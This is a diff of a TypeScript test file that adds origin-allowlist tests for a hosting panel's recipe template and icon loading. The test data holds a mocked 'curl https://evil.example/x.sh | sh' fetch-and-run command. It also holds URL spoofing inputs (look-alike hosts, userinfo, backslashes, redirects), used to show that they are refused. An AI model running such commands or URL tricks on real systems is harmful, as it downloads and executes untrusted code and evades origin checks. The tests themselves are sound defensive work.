@@ -7,7 +7,7 @@ import { SCRIPT_MARKER_HEADER } from '../client';
 import { ApiError, FETCH_ERROR_MESSAGE, NETWORK_ERROR_MESSAGE } from '../errors';
 import { createTestClient, setupMswServer, rejection } from '../testing/msw-node';
 import { createDeployApi } from './deploy';
-import { DEFAULT_DOH_URL, DEFAULT_RECIPE_INDEX_URL, endpointOrigin, resolveRecipeUrl } from './deploy-external';
+import { DEFAULT_DOH_URL, DEFAULT_RECIPE_INDEX_URL, endpointOrigin, RecipeOriginError, resolveRecipeUrl } from './deploy-external';
 
 const RECIPES_DIR = process.env.HOSTDECK_RECIPES_DIR ?? fileURLToPath(new URL('../../../../mock-api/src/fixtures/recipes', import.meta.url));
 const RECIPES_URL = 'https://raw.githubusercontent.com/domcloud/recipes/master/';
@@ -57,10 +57,11 @@ describe('createDeployApi: recipes', () => {
     expect(file.template).toMatchObject({ source: 'https://wordpress.org/latest.zip#wordpress', features: ['mysql'], nginx: { fastcgi: 'on' } });
   });
 
-  it('reads the ?from= file: an absolute URL, or a path under the recipes', async () => {
+  it('reads the ?from= file: an absolute URL on the index origin, or a path under the recipes', async () => {
     const seen: string[] = [];
+    const own = 'https://raw.githubusercontent.com/me/app/main/deploy.yml';
     server.use(
-      http.get('https://gist.example.org/me/app.yml', ({ request }) => {
+      http.get(own, ({ request }) => {
         seen.push(request.url);
         return HttpResponse.text('features:\n  - node lts\ncommands:\n  - npm ci\n');
       }),
@@ -69,12 +70,11 @@ describe('createDeployApi: recipes', () => {
         return HttpResponse.text(recipe('boot/laravel.yml'));
       }),
     );
-    const own = await api.getTemplateFrom({ from: 'https://gist.example.org/me/app.yml' });
-    expect(own).toEqual({ url: 'https://gist.example.org/me/app.yml', text: 'features:\n  - node lts\ncommands:\n  - npm ci\n', template: { features: ['node lts'], commands: ['npm ci'] } });
+    expect(await api.getTemplateFrom({ from: own })).toEqual({ url: own, text: 'features:\n  - node lts\ncommands:\n  - npm ci\n', template: { features: ['node lts'], commands: ['npm ci'] } });
     // Without a relative_url, the folder of the index is the base.
     const laravel = await api.getTemplateFrom({ from: '/boot/laravel.yml' });
     expect(laravel.template.root).toBe('public_html/public');
-    expect(seen).toEqual(['https://gist.example.org/me/app.yml', `${RECIPES_URL}boot/laravel.yml`]);
+    expect(seen).toEqual([own, `${RECIPES_URL}boot/laravel.yml`]);
   });
 
   it("rejects a missing file as 'http' 404 and a file that is not a YAML object as 'malformed'", async () => {
@@ -102,9 +102,125 @@ describe('createDeployApi: recipes', () => {
   });
 });
 
+describe('createDeployApi: where templates and icons may come from', () => {
+  /** Every request that reaches the network, whatever its address. */
+  const recordAll = () => {
+    const seen: string[] = [];
+    server.use(
+      http.all('*', ({ request }) => {
+        seen.push(request.url);
+        return HttpResponse.text('commands:\n  - curl https://evil.example/x.sh | sh\n');
+      }),
+    );
+    return seen;
+  };
+
+  const refusal = async (promise: Promise<unknown>) => {
+    const error = await rejection(promise);
+    expect(error).toBeInstanceOf(RecipeOriginError);
+    const { kind, message, detail, indexOrigin, refusedOrigin } = error as RecipeOriginError;
+    return { kind, message, detail, indexOrigin, refusedOrigin };
+  };
+
+  it.each<[string, string, string]>([
+    ['another site', 'https://evil.example/deploy.yml', 'https://evil.example'],
+    ['a look-alike host', 'https://raw.githubusercontent.com.evil.example/domcloud/recipes/master/x.yml', 'https://raw.githubusercontent.com.evil.example'],
+    ['the index host as userinfo', 'https://raw.githubusercontent.com@evil.example/x.yml', 'https://evil.example'],
+    ['backslashes for slashes', 'https:\\\\evil.example\\x.yml', 'https://evil.example'],
+    ['a path of backslashes that leaves the recipes', '\\\\evil.example\\x.yml', 'https://evil.example'],
+    ['plain http', 'http://raw.githubusercontent.com/domcloud/recipes/master/x.yml', 'http://raw.githubusercontent.com'],
+    ['userinfo on the index origin', 'https://me@raw.githubusercontent.com/x.yml', 'https://me@raw.githubusercontent.com/x.yml'],
+  ])('refuses a ?from= link to %s before any request, naming its origin', async (_case, from, refused) => {
+    const seen = recordAll();
+    expect(await refusal(api.getTemplateFrom({ from, relativeUrl: RECIPES_URL }))).toEqual({
+      kind: 'malformed',
+      message: `Templates can only come from https://raw.githubusercontent.com; ${refused} is not allowed.`,
+      detail: refused,
+      indexOrigin: 'https://raw.githubusercontent.com',
+      refusedOrigin: refused,
+    });
+    expect(seen).toEqual([]);
+  });
+
+  it("refuses a tile whose index names a relative_url, or a file, on another origin", async () => {
+    const seen = recordAll();
+    expect(await refusal(api.getRecipeTemplate({ file: 'boot/wordpress.yml', relativeUrl: 'https://evil.example/recipes/' }))).toMatchObject({
+      refusedOrigin: 'https://evil.example',
+      message: expect.stringContaining('https://evil.example is not allowed') as string,
+    });
+    expect(await refusal(api.getRecipeTemplate({ file: 'https://cdn.example/wordpress.yml', relativeUrl: RECIPES_URL }))).toMatchObject({ refusedOrigin: 'https://cdn.example' });
+    expect(seen).toEqual([]);
+  });
+
+  it('fetches from an origin of the allowlist, and from a configured recipe base', async () => {
+    const seen = recordAll();
+    const listed = createDeployApi(createTestClient(), { allowedRecipeOrigins: ['https://gist.example.org', 'not an origin'] });
+    await expect(listed.getTemplateFrom({ from: 'https://gist.example.org/me/app.yml' })).resolves.toMatchObject({ url: 'https://gist.example.org/me/app.yml' });
+    expect(await refusal(listed.getTemplateFrom({ from: 'https://evil.gist.example.org/app.yml' }))).toMatchObject({ refusedOrigin: 'https://evil.gist.example.org' });
+    const mirrored = createDeployApi(createTestClient(), { recipeBaseUrl: 'https://mirror.example/recipes/' });
+    await expect(mirrored.getRecipeTemplate({ file: 'boot/x.yml' })).resolves.toMatchObject({ url: 'https://mirror.example/recipes/boot/x.yml' });
+    expect(seen).toEqual(['https://gist.example.org/me/app.yml', 'https://mirror.example/recipes/boot/x.yml']);
+  });
+
+  it('refuses a recipe address on the allowed origin that redirects elsewhere, and never reads the other origin', async () => {
+    let reachedElsewhere = false;
+    server.use(
+      http.get(`${RECIPES_URL}boot/moved.yml`, () => new HttpResponse(null, { status: 302, headers: { Location: 'https://evil.example/payload.yml' } })),
+      http.get('https://evil.example/payload.yml', () => {
+        reachedElsewhere = true;
+        return HttpResponse.text('features:\n  - ssl\n');
+      }),
+    );
+    const error = await rejection(api.getTemplateFrom({ from: `${RECIPES_URL}boot/moved.yml` }));
+    expect(error).toMatchObject({ kind: 'network', message: NETWORK_ERROR_MESSAGE });
+    expect(reachedElsewhere).toBe(false);
+  });
+
+  it("names a custom index's origin as the one templates come from", async () => {
+    const custom = createDeployApi(createTestClient(), { recipeIndexUrl: 'http://localhost:5173/recipes/index.yml' });
+    expect(await refusal(custom.getTemplateFrom({ from: 'https://raw.githubusercontent.com/domcloud/recipes/master/x.yml' }))).toMatchObject({
+      indexOrigin: 'http://localhost:5173',
+      refusedOrigin: 'https://raw.githubusercontent.com',
+    });
+  });
+
+  const indexWithIcons = (relativeUrl: string) =>
+    [
+      `relative_url: ${relativeUrl}`,
+      'templates:',
+      '  - {title: Beside, file: a.yml, icon: icons/a.svg}',
+      '  - {title: Site, file: b.yml, icon: "https://simpleicons.org/icons/b.svg"}',
+      '  - {title: Inline, file: c.yml, icon: "data:image/svg+xml,%3Csvg%2F%3E"}',
+      '  - {title: Sneaky, file: d.yml, icon: "//evil.example/d.svg"}',
+      '  - {title: None, file: e.yml}',
+      '',
+    ].join('\n');
+  const iconsOf = (index: { templates: { title: string; icon?: string }[] }) => Object.fromEntries(index.templates.map((tile) => [tile.title, tile.icon]));
+
+  it("drops tile icons from other origins, so the gallery loads none of them", async () => {
+    server.use(http.get(DEFAULT_RECIPE_INDEX_URL, () => HttpResponse.text(indexWithIcons(RECIPES_URL))));
+    expect(iconsOf(await api.getRecipeIndex())).toEqual({
+      Beside: `${RECIPES_URL}icons/a.svg`,
+      Site: undefined,
+      Inline: 'data:image/svg+xml,%3Csvg%2F%3E',
+      Sneaky: undefined,
+      None: undefined,
+    });
+    const listed = createDeployApi(createTestClient(), { allowedRecipeOrigins: ['https://simpleicons.org'] });
+    expect(iconsOf(await listed.getRecipeIndex())).toMatchObject({ Site: 'https://simpleicons.org/icons/b.svg', Sneaky: undefined });
+  });
+
+  it("drops icons beside recipes whose relative_url is on another origin", async () => {
+    server.use(http.get(DEFAULT_RECIPE_INDEX_URL, () => HttpResponse.text(indexWithIcons('https://evil.example/recipes/'))));
+    expect(iconsOf(await api.getRecipeIndex())).toMatchObject({ Beside: undefined, Inline: 'data:image/svg+xml,%3Csvg%2F%3E' });
+  });
+});
+
 describe('resolveRecipeUrl', () => {
   it('keeps absolute URLs and resolves paths under the base', () => {
     expect(resolveRecipeUrl('https://x.example/a.yml', RECIPES_URL)).toBe('https://x.example/a.yml');
+    // As fetch() will read it: a scheme in capitals is still an outside address, not a path of the panel's own API.
+    expect(resolveRecipeUrl('HTTPS://X.example/a.yml', RECIPES_URL)).toBe('https://x.example/a.yml');
     expect(resolveRecipeUrl('boot/x.yml', RECIPES_URL)).toBe(`${RECIPES_URL}boot/x.yml`);
     expect(resolveRecipeUrl('/boot/x.yml', RECIPES_URL)).toBe(`${RECIPES_URL}boot/x.yml`);
     expect(resolveRecipeUrl('//evil.example/x.yml', 'https://r.example/recipes')).toBe('https://r.example/recipes/evil.example/x.yml');
